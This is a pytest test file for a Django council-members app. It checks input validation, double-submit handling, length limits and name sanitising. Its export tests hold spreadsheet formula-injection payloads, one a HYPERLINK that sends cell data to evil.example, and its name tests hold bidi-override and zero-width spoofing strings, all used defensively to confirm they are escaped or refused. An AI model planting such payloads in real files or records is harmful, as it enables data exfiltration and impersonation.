"""Issue 11 section 5 (trust) in the members app: numbers people send, cancelled
invitations, names, lengths, double submits and spreadsheet exports."""

import csv
import datetime
import io
import threading

import pytest
from django.db import connection
from django.test import Client, TestCase

from members.models import Council, Feedback, Invitation, Position, User
from members.services import access as access_services
from members.tests.factories import CouncilFactory, PositionFactory, UserFactory, sign_in
from members.tests.factories_access import issue_invitation

pytestmark = pytest.mark.django_db


@pytest.fixture
def council():
    return CouncilFactory(name="Sandwich", slug="sandwich", contact_email="clerk@sandwich.example.org")


@pytest.fixture
def clerk(client, council):
    person = UserFactory(full_name="Alex Morgan", email="alex@example.org")
    PositionFactory(
        user=person, council=council, role=Position.Role.CLERK, started_on=datetime.date(2020, 4, 1)
    )
    sign_in(client, person)
    return person


# --- Numbers ------------------------------------------------------------------------------


@pytest.mark.parametrize("revoke", ["²", "١", "9" * 5000, "99999999999999999999", "-1", " 1", ""])
def test_revoking_with_something_not_a_number_is_not_found_and_changes_nothing(
    client, clerk, council, revoke
):
    invitation, _ = issue_invitation(council=council, email="robin@example.org")

    response = client.post("/councils/sandwich/invite/", {"revoke": revoke})

    assert response.status_code == 404
    invitation.refresh_from_db()
    assert invitation.revoked_at is None


@pytest.mark.parametrize("page", ["²", "9223372036854775807", "9" * 5000])
def test_the_offices_queues_survive_any_page_number(client, page):
    from members.tests.factories import staff_user

    sign_in(client, staff_user())
    for url in ["/feedback/queue/", "/access/requests/", "/councils/", "/account/deletion-requests/"]:
        response = client.get(url, {"page": page})
        assert response.status_code == 200, url


# --- Cancelled invitations ----------------------------------------------------------------


def test_a_cancelled_invitation_leaves_no_account_behind(client, clerk, council):
    invitation, _ = issue_invitation(council=council, email="robin@example.org")

    client.post("/councils/sandwich/invite/", {"revoke": invitation.pk})

    invitation.refresh_from_db()
    assert invitation.revoked_at is not None
    assert not User.objects.filter(email="robin@example.org").exists()


def test_the_account_is_created_when_the_invitation_is_accepted(council):
    invitation, _ = issue_invitation(council=council, email="robin@example.org", full_name="Robin Invitee")
    assert not User.objects.filter(email="robin@example.org").exists()

    with TestCase.captureOnCommitCallbacks(execute=True):
        position = access_services.invitation_accept(invitation=invitation, password="a-long-new-password")

    user = User.objects.get(email="robin@example.org")
    assert position.user == user and user.full_name == "Robin Invitee"
    assert user.check_password("a-long-new-password")
    assert user.emailaddress_set.get().verified


def test_cancelling_an_invitation_to_someone_with_an_account_keeps_their_account(client, clerk, council):
    existing = UserFactory(email="robin@example.org")
    invitation, _ = issue_invitation(council=council, email="robin@example.org")

    client.post("/councils/sandwich/invite/", {"revoke": invitation.pk})

    assert Invitation.objects.get(pk=invitation.pk).revoked_at is not None
    assert User.objects.filter(pk=existing.pk).exists()


# --- Double submits -----------------------------------------------------------------------


def _feedback_form(client) -> dict:
    key = client.get("/feedback/").context["form"]["submission_key"].value()
    return {"submission_key": str(key), "subject": "Precept", "message": "When must we tell the district?"}


def test_sending_the_same_feedback_form_twice_makes_one_item(client, clerk):
    data = _feedback_form(client)

    first = client.post("/feedback/", data)
    second = client.post("/feedback/", data)

    item = Feedback.objects.get()
    assert first["Location"] == second["Location"] == f"/feedback/{item.pk}/"
    # A new form is a new item.
    client.post("/feedback/", _feedback_form(client))
    assert Feedback.objects.count() == 2


def test_feedback_sent_without_the_forms_key_asks_to_send_again_and_saves_nothing(client, clerk):
    data = {"subject": "Precept", "message": "When must we tell the district?"}

    response = client.post("/feedback/", data)

    assert response.status_code == 200
    assert "press “Send to the office” again" in response.content.decode()
    assert not Feedback.objects.exists()
    key = response.context["form"]["submission_key"].value()
    assert client.post("/feedback/", {**data, "submission_key": key}).status_code == 302
    assert Feedback.objects.count() == 1


def _post_in_parallel(cookies, forms: list[dict]) -> list[int]:
    """One request per form, all at once, each on its own thread and so its own database
    connection."""
    barrier = threading.Barrier(len(forms))
    statuses: list[int] = []

    def send(data):
        parallel = Client()
        parallel.cookies = cookies
        barrier.wait()
        try:
            statuses.append(parallel.post("/feedback/", data).status_code)
        finally:
            connection.close()

    threads = [threading.Thread(target=send, args=(data,)) for data in forms]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    return statuses


@pytest.mark.django_db(transaction=True)
def test_three_parallel_posts_of_one_feedback_form_make_one_item(client, clerk):
    data = _feedback_form(client)

    statuses = _post_in_parallel(client.cookies, [data, data, data])

    assert statuses == [302, 302, 302]
    assert Feedback.objects.count() == 1
    # Negative control: three different forms sent at once make three items.
    statuses = _post_in_parallel(client.cookies, [_feedback_form(client) for _ in range(3)])
    assert statuses == [302, 302, 302]
    assert Feedback.objects.count() == 4


# --- Formulae in exports -------------------------------------------------------------------

FORMULAE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '==HYPERLINK("https://evil.example","x")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
]


def _export(client, fmt: str) -> bytes:
    from members.admin.core import CouncilAdmin

    formats = [f().get_title() for f in CouncilAdmin(Council, None).get_export_formats()]
    response = client.post(
        "/admin/members/council/export/",
        {"format": str(formats.index(fmt)), **{f"councilresource_{f}": "on" for f in ["slug", "address"]}},
    )
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("formula", FORMULAE)
def test_a_formula_a_clerk_types_is_exported_as_text(client, clerk, council, formula):
    from members.tests.factories import staff_user

    response = client.post(
        "/councils/sandwich/edit/",
        {"contact_email": "office@sandwich.example.org", "address": formula, "electorate": ""},
    )
    assert response.status_code == 302
    council.refresh_from_db()
    assert council.address == formula.strip()
    sign_in(client, staff_user())

    # XLSX and ODS are offered only where their libraries are installed (they are not
    # here); the escaping is in the resource, so it is the same in every format.
    for fmt, dialect in [("csv", csv.excel), ("tsv", csv.excel_tab)]:
        rows = list(csv.reader(io.StringIO(_export(client, fmt).decode("utf-8-sig")), dialect))
        assert rows[1] == ["sandwich", "'" + council.address], fmt


def test_an_escaped_export_imports_back_unchanged(client, council):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from members.tests.factories import staff_user

    Council.objects.filter(pk=council.pk).update(address="=1+1")
    sign_in(client, staff_user())
    exported = _export(client, "csv")
    Council.objects.filter(pk=council.pk).update(address="changed since")
    upload = SimpleUploadedFile("councils.csv", exported, content_type="text/csv")

    preview = client.post("/admin/members/council/import/", {"format": "0", "import_file": upload})
    form = preview.context["confirm_form"]
    client.post("/admin/members/council/process_import/", {**form.initial, "format": "0"})

    council.refresh_from_db()
    assert council.address == "=1+1"


def test_the_portals_own_csv_files_escape_formulae():
    from knowledge_bank.demo_files import csv_bytes

    rows = list(csv.reader(io.StringIO(csv_bytes([["Item", "=HYPERLINK(1)", 3, "-5"]]).decode("utf-8-sig"))))
    assert rows == [["Item", "'=HYPERLINK(1)", "3", "'-5"]]


# --- Lengths -------------------------------------------------------------------------------


def test_a_100_kb_council_address_is_refused_next_to_the_field(client, clerk, council):
    response = client.post(
        "/councils/sandwich/edit/",
        {"contact_email": "office@sandwich.example.org", "address": "x" * 100_000},
    )

    assert response.status_code == 200
    html = response.content.decode()
    assert (
        'href="#id_address"' in html
        and "Ensure this value has at most 500 characters (it has 100000)." in html
    )
    assert list(response.context["form"].errors) == ["address"]
    council.refresh_from_db()
    assert council.address == "" and council.contact_email == "clerk@sandwich.example.org"


def test_the_admin_refuses_over_long_text_too(client, council):
    from members.tests.factories import staff_user

    sign_in(client, staff_user())
    page = client.get(f"/admin/members/council/{council.pk}/change/")
    form = page.context["adminform"].form
    data = {name: form[name].value() or "" for name in form.fields}
    data.update({"address": "x" * 501, "area_committee": council.area_committee_id})
    inline_prefix = "positions"
    data.update({f"{inline_prefix}-TOTAL_FORMS": "0", f"{inline_prefix}-INITIAL_FORMS": "0"})

    response = client.post(f"/admin/members/council/{council.pk}/change/", data)

    assert response.status_code == 200
    assert "Ensure this value has at most 500 characters (it has 501)." in response.content.decode()
    council.refresh_from_db()
    assert council.address == ""


def test_every_free_text_field_people_type_into_has_a_limit():
    from django.apps import apps
    from django.db import models

    unlimited = [
        f"{model._meta.label}.{field.name}"
        for app in ("members", "knowledge_bank")
        for model in apps.get_app_config(app).get_models()
        for field in model._meta.get_fields()
        if isinstance(field, models.TextField)
        and field.editable
        and not model._meta.label.split(".")[1].startswith("Historical")
        and not field.max_length
    ]
    assert unlimited == []


# --- Names ---------------------------------------------------------------------------------

HIDDEN = {
    "right-to-left override": "Alex \u202enagroM",
    "left-to-right isolate": "Alex \u2066Morgan\u2069",
    "zero-width space": "Alex\u200b Morgan",
    "zero-width joiner": "Alex Mor\u200dgan",
    "word joiner": "Alex\u2060Morgan",
    "byte-order mark": "\ufeffAlex Morgan",
    "right-to-left mark": "Alex Morgan\u200f",
    "line break": "Alex\nMorgan",
}
NAME_MESSAGE = "Names cannot contain hidden characters"


@pytest.mark.parametrize("name", HIDDEN.values(), ids=HIDDEN.keys())
def test_an_access_request_with_a_hidden_character_in_the_name_is_refused(client, council, name):
    from members.models import AccessRequest

    response = client.post(
        "/access/request/",
        {"full_name": name, "email": "sam@example.org", "council": str(council.pk), "role": "councillor"},
    )

    assert response.status_code == 200
    assert NAME_MESSAGE in response.context["form"].errors["full_name"][0]
    assert 'href="#id_full_name"' in response.content.decode()
    assert not AccessRequest.objects.exists()


@pytest.mark.parametrize("name", HIDDEN.values(), ids=HIDDEN.keys())
def test_the_clerk_cannot_invite_or_hand_over_to_a_name_with_hidden_characters(client, clerk, council, name):
    invited = client.post(
        "/councils/sandwich/invite/", {"full_name": name, "email": "robin@example.org", "role": "councillor"}
    )
    handed = client.post(
        "/councils/sandwich/handover/",
        {"full_name": name, "email": "robin@example.org", "ended_on": datetime.date.today().isoformat()},
    )

    for response in (invited, handed):
        assert response.status_code == 200
        assert NAME_MESSAGE in response.context["form"].errors["full_name"][0]
    assert not Invitation.objects.exists()
    assert Position.objects.current().get(council=council, role=Position.Role.CLERK).user == clerk


@pytest.mark.parametrize("name", HIDDEN.values(), ids=HIDDEN.keys())
def test_nobody_renames_themselves_with_hidden_characters(client, clerk, name):
    response = client.post("/account/", {"full_name": name, "phone": ""})

    assert response.status_code == 200
    assert NAME_MESSAGE in response.context["form"].errors["full_name"][0]
    clerk.refresh_from_db()
    assert clerk.full_name == "Alex Morgan"


def test_names_in_other_scripts_and_with_accents_are_welcome(client, clerk):
    for name in ["Zoë O'Brien-Smith", "Siân Llŷr", "محمد علي", "李小龍", "Ægir Þórsson"]:
        assert client.post("/account/", {"full_name": name, "phone": ""}).status_code == 302
        clerk.refresh_from_db()
        assert clerk.full_name == name


def test_the_database_refuses_hidden_characters_in_names_whatever_writes_them(council):
    from django.db import IntegrityError, transaction

    from members.services.core import user_create

    for name in HIDDEN.values():
        with pytest.raises(IntegrityError), transaction.atomic():
            user_create(email="fake@example.org", full_name=name)
    assert not User.objects.filter(email="fake@example.org").exists()
